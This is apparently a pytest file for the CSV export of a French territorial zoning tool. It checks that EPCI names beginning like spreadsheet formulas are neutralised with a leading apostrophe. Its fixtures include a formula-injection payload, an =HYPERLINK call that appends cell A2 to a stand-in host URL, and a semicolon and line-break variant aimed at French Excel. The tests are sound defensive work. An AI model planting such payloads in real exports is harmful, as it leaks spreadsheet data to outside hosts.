"""zones.csv, written by `python -m solidarite zonage`, on a two-EPCI result built by hand: a name read from a data
file is never a formula in a spreadsheet, the numbers (a negative gap to the cut-off included) stay as they are.
The real national file is compared to its snapshot in test_command.py."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from solidarite.zonage.calcul import EpciInfo, ZonageResult
from solidarite.zonage.exports import CSV_COLUMNS, write_csv
from solidarite.zonage.score import CRITERES, CritereValue, EpciScore
from solidarite.zonage.sources import PARAMS_2025_HISTORIQUE, load_params

pytestmark = pytest.mark.sans_base


def _result(names: dict[str, str]) -> ZonageResult:
    epcis, scores = {}, []
    for rank, (siren, nom) in enumerate(names.items(), start=1):
        epcis[siren] = EpciInfo(siren, nom, "CC", ("15",), "84", "Auvergne-Rhône-Alpes", "metro", 5000)
        scores.append(
            EpciScore(
                siren,
                5000,
                {c: CritereValue(1.5) for c in CRITERES},
                score=40.0,
                rang=rank,
                explication=f"Rang {rank}",
                region="84",
                ecart_seuil=-1.25,
                critere_decisif="apl",
                score_fragilite=40.0,
            )
        )
    return ZonageResult(load_params(PARAMS_2025_HISTORIQUE), epcis, scores, {})


def test_a_name_written_as_a_formula_is_a_text_in_zones_csv(tmp_path: Path) -> None:
    """The probe of 6 December: every CSV writer neutralises a text beginning like a formula."""
    path = tmp_path / "zones.csv"
    write_csv(
        _result({"200000001": '=HYPERLINK("http://exemple.invalid/?x="&A2,"CC")', "200000002": "CC Cère"}),
        path,
    )
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert [r["nom"] for r in rows] == ["'" + '=HYPERLINK("http://exemple.invalid/?x="&A2,"CC")', "CC Cère"]
    assert {r["ecart_seuil"] for r in rows} == {"-1.25"} and {r["apl"] for r in rows} == {"1.500"}


def test_a_name_with_a_semicolon_a_quote_a_line_break_and_a_formula_stays_one_cell_and_no_formula(
    tmp_path: Path,
) -> None:
    """French Excel splits a comma file on « ; » and at line breaks: each piece beginning like a formula gets its
    apostrophe (web/tableurs.py); read with the file's comma, the name is one cell."""
    path = tmp_path / "zones.csv"
    write_csv(_result({"200000001": '=CC ; "Cère"\n=HYPERLINK("x");-1'}), path)
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["nom"] == '\'=CC ; "Cère"\n\'=HYPERLINK("x");\'-1'
    text = path.read_text(encoding="utf-8")
    pieces = [p.lstrip(' "') for line in text.split("\n") for p in line.split(";")]
    assert not [p for p in pieces if p.startswith(("=", "+", "@")) or p.startswith("-1")]
